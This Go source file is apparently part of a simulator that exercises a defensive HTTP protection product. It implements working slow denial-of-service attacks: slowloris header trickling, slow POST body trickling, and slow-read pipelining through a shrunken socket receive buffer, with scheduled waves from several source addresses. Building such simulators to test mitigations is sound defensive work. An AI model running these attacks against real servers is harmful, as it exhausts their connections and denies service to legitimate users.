package sim

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"math"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"syscall"
	"time"

	"github.com/rampart-shield/rampart/internal/demo"
)

// slowReadPipeline is how many requests a slow-read connection pipelines,
// and slowReadRcvBuf the receive buffer it asks for (the kernel doubles it
// and enforces a minimum of a few KiB).
const (
	slowReadPipeline = 16
	slowReadRcvBuf   = 1024
	slowPostLength   = 1_000_000
)

// dialRaw opens a connection from src to the target, with TLS when the
// target is https.
func (r *runner) dialRaw(ctx context.Context, src netip.Addr, control func(string, string, syscall.RawConn) error, alpn []string) (net.Conn, error) {
	c, err := r.dialer(src, control)(ctx, "tcp", r.target.AddrPort.String())
	if err != nil {
		return nil, err
	}
	if !r.target.TLS {
		return c, nil
	}
	cfg := r.tlsCfg.Clone()
	cfg.NextProtos = alpn
	tc := tls.Client(c, cfg)
	hctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	if err := tc.HandshakeContext(hctx); err != nil {
		c.Close()
		return nil, fmt.Errorf("TLS handshake: %w", err)
	}
	return tc, nil
}

// slowSource runs one connection of a slow attack at a time from src until
// ctx ends: when the server closes one, it waits a.Interval and opens the
// next. Each connection counts as one attack request (slow-read: as the
// slowReadPipeline requests it pipelines). On a schedule, connections are
// open only in the source's windows (scheduledSlowSource).
func (r *runner) slowSource(ctx context.Context, a Attack, idx int, src netip.Addr) {
	rng := rand.New(rand.NewPCG(r.cfg.Seed, uint64(roleAttack)<<32|uint64(idx)|1<<31))
	if s := a.schedule(); !s.isZero() {
		r.scheduledSlowSource(ctx, a, s, src, rng)
		return
	}
	// Spread the first connections over one interval.
	if !wait(ctx, time.Duration(rng.Int64N(int64(a.Interval)+1))) {
		return
	}
	r.slowLoop(ctx, a, src, rng)
}

// slowLoop holds one connection after another until ctx ends.
func (r *runner) slowLoop(ctx context.Context, a Attack, src netip.Addr, rng *rand.Rand) {
	reqs := int64(1)
	if a.Kind == KindSlowRead {
		reqs = slowReadPipeline
	}
	for ctx.Err() == nil {
		if !r.takeN(reqs) {
			return
		}
		r.attackSent.Add(reqs)
		r.slowOnce(ctx, a, src, rng)
		if !wait(ctx, a.Interval) {
			return
		}
	}
}

// scheduledSlowSource holds connections in the windows of s in which the
// component's level is at least the source's share (drawn once, so that
// the connections held rise linearly over the ramp), and closes them at the
// end of each wave. In each window the first connection waits a random
// part of Interval (at most half the window), so that the sources do not
// all connect at once.
func (r *runner) scheduledSlowSource(ctx context.Context, a Attack, s schedule, src netip.Addr, rng *rand.Rand) {
	var clk realClock
	share := rng.Float64()
	for ctx.Err() == nil {
		from, until := s.window(clk.Now().Sub(r.start), share)
		spread := min(a.Interval, (until-from)/2)
		from += time.Duration(rng.Int64N(int64(max(spread, 0)) + 1))
		if !clk.Sleep(ctx, r.start.Add(from).Sub(clk.Now())) {
			return
		}
		if until == math.MaxInt64 { // no waves: hold until the end
			r.slowLoop(ctx, a, src, rng)
			return
		}
		wctx, cancel := context.WithDeadline(ctx, r.start.Add(until))
		r.slowLoop(wctx, a, src, rng)
		cancel()
		// The next window starts after this wave's end.
		if !clk.Sleep(ctx, r.start.Add(until).Sub(clk.Now())) {
			return
		}
	}
}

// slowOnce runs one slow connection and records how it ended: "held" when it
// was still open at the end of the run, "closed" when the server closed it
// without answering, the answer's status otherwise.
func (r *runner) slowOnce(ctx context.Context, a Attack, src netip.Addr, rng *rand.Rand) {
	var control func(string, string, syscall.RawConn) error
	if a.Kind == KindSlowRead {
		control = setRcvBuf(slowReadRcvBuf)
	}
	conn, err := r.dialRaw(ctx, src, control, []string{"http/1.1"})
	if err != nil {
		if ctx.Err() == nil {
			r.record(roleAttack, nil, err)
		}
		return
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()

	var ended string
	switch a.Kind {
	case KindSlowRead:
		ended = r.slowRead(ctx, conn, a)
	default:
		ended = r.slowWrite(ctx, conn, a, rng)
	}
	if ended != "" {
		r.stat[roleAttack].add(ended, 1)
	}
}

// slowWrite is slowloris (a.Kind KindSlowloris: one header line per
// interval) and slow POST (a complete head, then a.TrickleBytes of body per
// interval). A reader watches for the server's answer.
func (r *runner) slowWrite(ctx context.Context, conn net.Conn, a Attack, rng *rand.Rand) string {
	answered := make(chan string, 1)
	go func() {
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			answered <- "closed"
			return
		}
		io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<16))
		resp.Body.Close()
		if ctx.Err() == nil {
			r.record(roleAttack, resp, nil)
		}
		answered <- ""
	}()

	var head strings.Builder
	prof := profiles[rng.IntN(len(profiles))]
	if a.Kind == KindSlowPost {
		fmt.Fprintf(&head, "POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n%s: attack\r\n\r\n",
			a.Path, r.target.HostHeader, prof.ua, slowPostLength, demo.RoleHeader)
	} else {
		fmt.Fprintf(&head, "GET %s?%x HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: %s\r\n%s: attack\r\n",
			a.Path, rng.Uint32(), r.target.HostHeader, prof.ua, prof.acceptNav, demo.RoleHeader)
	}
	if !r.writeOrEnd(ctx, conn, []byte(head.String())) {
		return r.outcome(ctx, answered)
	}
	body := bytes.Repeat([]byte("a"), max(1, a.TrickleBytes))
	sentBody := 0
	for n := 0; ; n++ {
		t := time.NewTimer(a.Interval)
		select {
		case <-ctx.Done():
			t.Stop()
			return "held"
		case s := <-answered:
			t.Stop()
			return s
		case <-t.C:
		}
		var chunk []byte
		if a.Kind == KindSlowPost {
			if sentBody+len(body) > slowPostLength {
				continue // the body is complete: wait for the answer
			}
			chunk = body
			sentBody += len(body)
		} else {
			chunk = fmt.Appendf(nil, "X-%c%d: %d\r\n", 'a'+rune(rng.IntN(26)), n, rng.IntN(5000))
		}
		if !r.writeOrEnd(ctx, conn, chunk) {
			return r.outcome(ctx, answered)
		}
	}
}

// writeOrEnd writes b with a deadline; false when the connection failed.
func (r *runner) writeOrEnd(ctx context.Context, conn net.Conn, b []byte) bool {
	conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
	_, err := conn.Write(b)
	return err == nil && ctx.Err() == nil
}

// outcome waits briefly for the reader after a failed write.
func (r *runner) outcome(ctx context.Context, answered <-chan string) string {
	if ctx.Err() != nil {
		return "held"
	}
	t := time.NewTimer(2 * time.Second)
	defer t.Stop()
	select {
	case s := <-answered:
		return s
	case <-t.C:
		return "closed"
	case <-ctx.Done():
		return "held"
	}
}

// slowRead pipelines requests through a tiny receive window and reads
// a.TrickleBytes per interval. The first answer's head is parsed to count
// its status and decision.
func (r *runner) slowRead(ctx context.Context, conn net.Conn, a Attack) string {
	var reqs bytes.Buffer
	for range slowReadPipeline {
		fmt.Fprintf(&reqs, "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n%s: attack\r\n\r\n",
			a.Path, r.target.HostHeader, profiles[0].ua, demo.RoleHeader)
	}
	if !r.writeOrEnd(ctx, conn, reqs.Bytes()) {
		if ctx.Err() != nil {
			return "held"
		}
		return "closed"
	}
	buf := make([]byte, max(1, a.TrickleBytes))
	var head []byte
	parsed := false
	for {
		if !wait(ctx, a.Interval) {
			return "held"
		}
		conn.SetReadDeadline(time.Now().Add(a.Interval + 10*time.Second))
		n, err := conn.Read(buf)
		if !parsed && n > 0 {
			head = append(head, buf[:n]...)
			if bytes.Contains(head, []byte("\r\n\r\n")) || len(head) > 8<<10 {
				parsed = true
				if resp, perr := http.ReadResponse(bufio.NewReader(bytes.NewReader(head)), nil); perr == nil && ctx.Err() == nil {
					r.record(roleAttack, resp, nil)
				}
			}
		}
		if err != nil {
			if ctx.Err() != nil {
				return "held"
			}
			return "closed"
		}
	}
}

// setRcvBuf returns a dialer Control hook that shrinks the socket's receive
// buffer before it connects (so the window advertised is small).
func setRcvBuf(n int) func(string, string, syscall.RawConn) error {
	return func(_, _ string, c syscall.RawConn) error {
		var serr error
		err := c.Control(func(fd uintptr) {
			serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, n)
		})
		if err != nil {
			return err
		}
		return serr
	}
}
